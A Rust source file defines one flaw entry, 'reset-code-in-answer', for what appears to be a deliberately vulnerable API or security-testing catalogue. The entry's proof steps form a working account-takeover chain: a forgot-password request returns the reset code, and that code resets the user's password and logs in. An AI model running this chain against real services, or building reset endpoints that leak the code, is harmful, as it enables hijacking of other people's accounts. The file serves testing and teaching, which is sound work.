use crate::{
    flaws::{FlawItem, Protocol},
    proof::{Expect::Success, post},
};

/// The code that resets a password is in the answer.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "reset-code-in-answer",
    title: "The code that resets a password is in the answer",
    owasp: "API2:2023",
    cwe: 640,
    protocol: Protocol::Rest,
    operation: "POST /auth/forgot",
    what: "What should go out by mail is sent back to whoever asks.",
    proof: &[
        post("", "/auth/forgot", r#"{"login":"bea"}"#)
            .take(&[("code", r#""code":""#)])
            .shows(&[Success]),
        post("", "/auth/reset", r#"{"code":"${code}","password":"taken-over-1"}"#),
        post("", "/auth/login", r#"{"login":"bea","password":"taken-over-1"}"#).shows(&[Success]),
    ],
};
